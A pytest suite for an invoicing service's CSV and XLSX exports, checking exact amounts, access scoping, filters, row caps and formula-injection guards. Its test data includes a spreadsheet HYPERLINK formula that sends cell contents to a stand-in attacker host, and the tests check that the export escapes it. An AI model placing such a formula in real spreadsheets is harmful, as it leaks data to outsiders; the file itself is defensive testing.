"""CSV and XLSX exports of the invoice list: exact values, guards, scope, cap."""

import csv
import io
import logging
import zipfile
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from openpyxl import load_workbook

from facturo_chassis.testing import auth, running_app
from facturo_invoicing.adapters import export_formats
from facturo_invoicing.adapters.export_formats import Amount, csv_chunk
from facturo_invoicing.bootstrap import create_app
from facturo_invoicing.entrypoints.preconditions import today
from facturo_invoicing.settings import InvoicingSettings

from .flows import issued_invoice, new_customer

App = tuple[FastAPI, httpx.AsyncClient]
EXPORT = "/api/v1/invoices/export"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
TENTHS = [
    {"description": "Dix", "quantity": "1", "unit_price": "0.1", "vat_rate": "20"},
    {"description": "Vingt", "quantity": "1", "unit_price": "0.2", "vat_rate": "20"},
]
MILLIONS = [
    {
        "description": "-Refonte",
        "quantity": "1",
        "unit_price": "1234567.89",
        "vat_rate": "20",
    }
]


async def export(
    client: httpx.AsyncClient, user: str = "fanny", **params: str
) -> httpx.Response:
    return await client.get(EXPORT, params=params, headers=auth(user))


def csv_rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


async def srv_draft(client: httpx.AsyncClient) -> dict[str, Any]:
    customer_id = await new_customer(client, department="SRV", name="Garage SRV")
    body = {"department": "SRV", "customer_id": customer_id, "lines": TENTHS}
    response = await client.post("/api/v1/invoices", json=body, headers=auth("tom"))
    assert response.status_code == 201, response.text
    return dict(response.json())


async def test_csv_has_one_exact_row_per_invoice(app_and_client: App) -> None:
    app, client = app_and_client
    customer_id = await new_customer(client, name=ATTACK)
    tenths = await issued_invoice(app, client, TENTHS, customer_id)
    millions = await issued_invoice(app, client, MILLIONS, customer_id)

    rows = csv_rows(await export(client, format="csv"))

    assert [row["id"] for row in rows] == [tenths["id"], millions["id"]]
    assert rows[0] == {
        "id": tenths["id"],
        "number": tenths["number"],
        "department": "SAL",
        "status": "issued",
        "customer_id": customer_id,
        "customer_name": "'" + ATTACK,
        "customer_siren": "443061841",
        "customer_vat_id": "FR64443061841",
        "issue_date": tenths["issue_date"],
        "due_date": tenths["due_date"],
        "currency": "EUR",
        "net": "0.30",
        "vat": "0.06",
        "gross": "0.36",
        "amount_due": "0.36",
        "paid": "0.00",
        "credited": "0.00",
        "outstanding": "0.36",
        "refunded": "0.00",
        "refund_due": "0.00",
        "accounting_currency": "",
        "vat_accounting": "",
        "purchase_order_reference": "",
        "buyer_reference": "",
        "created_at": datetime.fromisoformat(tenths["created_at"]).isoformat(),
    }
    amounts = ("net", "vat", "gross", "outstanding")
    assert [rows[1][name] for name in amounts] == [
        "1234567.89",
        "246913.58",
        "1481481.47",
        "1481481.47",
    ]


async def test_csv_is_an_attachment_named_for_the_day(app_and_client: App) -> None:
    app, client = app_and_client
    app.dependency_overrides[today] = lambda: date(2026, 12, 3)

    response = await export(client)

    assert response.headers["content-disposition"] == (
        'attachment; filename="invoices-2026-12-03.csv"'
    )
    assert response.headers["cache-control"] == "no-store"
    assert response.content == b"\xef\xbb\xbf" + (
        b"id,number,department,status,customer_id,customer_name,customer_siren,"
        b"customer_vat_id,issue_date,due_date,currency,net,vat,gross,amount_due,"
        b"paid,credited,outstanding,refunded,refund_due,accounting_currency,"
        b"vat_accounting,"
        b"purchase_order_reference,buyer_reference,created_at\r\n"
    )


def test_text_is_guarded_and_amounts_stay_numbers() -> None:
    rows = [
        ("=1+1", "+33 1", "-x", "@SUM(A1)", "\tx", "\rx", "SAL", "a=b"),
        (Amount(Decimal("-12.50"), 2), Decimal("-0.5"), None, 3, date(2026, 1, 2)),
    ]

    text = csv_chunk(rows).decode()

    assert text == (
        "'=1+1,'+33 1,'-x,'@SUM(A1),'\tx,\"'\rx\",SAL,a=b\r\n"
        "-12.50,-0.5,,3,2026-01-02\r\n"
    )


def test_a_sheet_stops_at_excels_last_row(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export_formats, "EXCEL_MAX_ROWS", 3)
    book = export_formats.XlsxBook({"Invoices": ["id"]})
    book.append("Invoices", ["a"])
    book.append("Invoices", ["b"])

    with pytest.raises(export_formats.SheetFull):
        book.append("Invoices", ["c"])
    book.discard()


async def test_xlsx_has_typed_cells_in_three_sheets(app_and_client: App) -> None:
    app, client = app_and_client
    customer_id = await new_customer(client, name=ATTACK)
    tenths = await issued_invoice(app, client, TENTHS, customer_id)
    millions = await issued_invoice(app, client, MILLIONS, customer_id)

    response = await export(client, format="xlsx")

    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    assert response.headers["content-disposition"].endswith('.xlsx"')
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Invoices", "Lines", "VAT"]
    invoices = list(book["Invoices"].iter_rows())
    header = [cell.value for cell in invoices[0]]
    assert header[:4] == ["id", "number", "department", "status"]
    first = {name: cell for name, cell in zip(header, invoices[1], strict=True)}
    assert first["id"].value == tenths["id"]
    assert first["customer_name"].value == "'" + ATTACK
    assert first["customer_name"].data_type == "s"
    assert (first["net"].value, first["vat"].value, first["gross"].value) == (
        0.3,
        0.06,
        0.36,
    )
    assert first["net"].data_type == "n"
    assert first["net"].number_format == "#,##0.00"
    assert first["issue_date"].is_date
    assert first["issue_date"].value == datetime.fromisoformat(tenths["issue_date"])
    assert first["created_at"].is_date
    assert first["outstanding"].value == 0.36
    assert first["vat_accounting"].value is None
    second = {name: cell.value for name, cell in zip(header, invoices[2], strict=True)}
    assert (second["net"], second["gross"]) == (1234567.89, 1481481.47)
    lines = [[c.value for c in row] for row in book["Lines"].iter_rows(min_row=2)]
    vat = [[c.value for c in row] for row in book["VAT"].iter_rows(min_row=2)]
    owners = [tenths["id"], tenths["id"], millions["id"]]
    assert [row[0] for row in lines] == owners
    assert [row[1] for row in lines] == [tenths["number"]] * 2 + [millions["number"]]
    assert [row[2:] for row in lines] == [
        [1, "Dix", 1, "C62", 0.1, 0, "S", 20, 0.1, "EUR"],
        [2, "Vingt", 1, "C62", 0.2, 0, "S", 20, 0.2, "EUR"],
        [1, "'-Refonte", 1, "C62", 1234567.89, 0, "S", 20, 1234567.89, "EUR"],
    ]
    assert [row[0] for row in vat] == [tenths["id"], millions["id"]]
    assert [row[2:] for row in vat] == [
        ["S", 20, 0.3, 0.06, "EUR", None, None],
        ["S", 20, 1234567.89, 246913.58, "EUR", None, None],
    ]


async def test_xlsx_numbers_keep_their_decimal_digits(app_and_client: App) -> None:
    app, client = app_and_client
    await issued_invoice(app, client, MILLIONS)

    response = await export(client, format="xlsx")

    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        invoices = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<v>1234567.89</v>" in invoices
    assert "<v>246913.58</v>" in invoices
    assert "<v>0.00</v>" in invoices  # paid: the minor unit, not 0


async def test_foreign_currency_shows_its_accounting_vat(app_and_client: App) -> None:
    _, client = app_and_client
    customer_id = await new_customer(client)
    line = {"description": "Yen", "quantity": "1", "unit_price": "10000"}
    body = {
        "department": "SAL",
        "customer_id": customer_id,
        "currency": "JPY",
        "exchange_rate": "0.0061",
        "lines": [line | {"vat_rate": "20"}],
    }
    draft = await client.post("/api/v1/invoices", json=body, headers=auth("claire"))
    assert draft.status_code == 201, draft.text

    [row] = csv_rows(await export(client))
    book = load_workbook(io.BytesIO((await export(client, format="xlsx")).content))

    assert (row["net"], row["vat"], row["gross"]) == ("10000", "2000", "12000")
    assert (row["accounting_currency"], row["vat_accounting"]) == ("EUR", "12.20")
    assert (row["issue_date"], row["outstanding"], row["refund_due"]) == ("", "", "")
    sheet = book["Invoices"]
    assert (sheet["L2"].value, sheet["L2"].number_format) == (10000, "#,##0")
    assert (sheet["V2"].value, sheet["V2"].number_format) == (12.2, "#,##0.00")


async def test_exports_show_what_the_list_shows(app_and_client: App) -> None:
    app, client = app_and_client
    sal = await issued_invoice(app, client)
    srv = await srv_draft(client)

    def ids(response: httpx.Response) -> list[str]:
        return [row["id"] for row in csv_rows(response)]

    assert ids(await export(client, "claire")) == [sal["id"]]
    assert ids(await export(client, "tom")) == [srv["id"]]
    assert ids(await export(client, "fanny")) == [sal["id"], srv["id"]]
    assert ids(await export(client, "alex")) == [sal["id"], srv["id"]]
    assert ids(await export(client, "ada", department="SRV")) == [srv["id"]]
    assert ids(await export(client, "claire", department="SRV")) == []
    listed = await client.get(
        "/api/v1/invoices", params={"department": "SRV"}, headers=auth("claire")
    )
    assert listed.json()["total"] == 0


async def test_services_may_not_export(client: httpx.AsyncClient) -> None:
    response = await export(client, "svc")

    assert response.status_code == 403
    assert response.json()["detail"] == "your roles do not allow invoice.export"


async def test_filters_are_the_lists_with_issue_dates(app_and_client: App) -> None:
    app, client = app_and_client
    issued = await issued_invoice(app, client)
    draft = await srv_draft(client)
    day = issued["issue_date"]

    def ids(response: httpx.Response) -> list[str]:
        return [row["id"] for row in csv_rows(response)]

    assert ids(await export(client, issued_from=day, issued_to=day)) == [issued["id"]]
    assert ids(await export(client, issued_to="2000-01-01")) == []
    assert ids(await export(client, status="draft")) == [draft["id"]]
    listed = await client.get(
        "/api/v1/invoices", params={"issued_from": day}, headers=auth("fanny")
    )
    assert [item["id"] for item in listed.json()["items"]] == [issued["id"]]


async def test_bad_format_and_dates_are_refused(client: httpx.AsyncClient) -> None:
    pdf = await export(client, format="pdf")
    dates = await export(client, issued_from="2026-02-01", issued_to="2026-01-31")

    assert pdf.status_code == 422
    assert pdf.headers["content-type"] == "application/problem+json"
    assert [e["location"] for e in pdf.json()["errors"]] == ["query/format"]
    assert dates.status_code == 422
    assert dates.json()["detail"] == "issued_from is after issued_to"


@pytest.fixture
async def capped(database_url: str) -> Any:
    settings = InvoicingSettings(database_url=database_url, export_max_rows=1)
    app = create_app(settings)
    async with running_app(app) as client:
        yield app, client


async def test_an_export_over_the_cap_is_refused(
    capped: App, caplog: pytest.LogCaptureFixture
) -> None:
    app, client = capped
    await issued_invoice(app, client)
    await srv_draft(client)
    exports_logger = "facturo_invoicing.service_layer.exports"
    caplog.set_level(logging.INFO, logger=exports_logger)

    refused = await export(client, format="xlsx")
    narrowed = await export(client, department="SRV")

    assert refused.status_code == 422
    assert refused.json()["title"] == "Export too large"
    assert (refused.json()["rows"], refused.json()["max_rows"]) == (2, 1)
    assert len(csv_rows(narrowed)) == 1
    logged = [r for r in caplog.records if r.name == exports_logger]
    assert [record.getMessage() for record in logged] == [
        "xlsx export refused for sub-fanny: 2 invoices, filter none",
        "csv export started for sub-fanny: 1 invoices, filter departments=SRV",
    ]
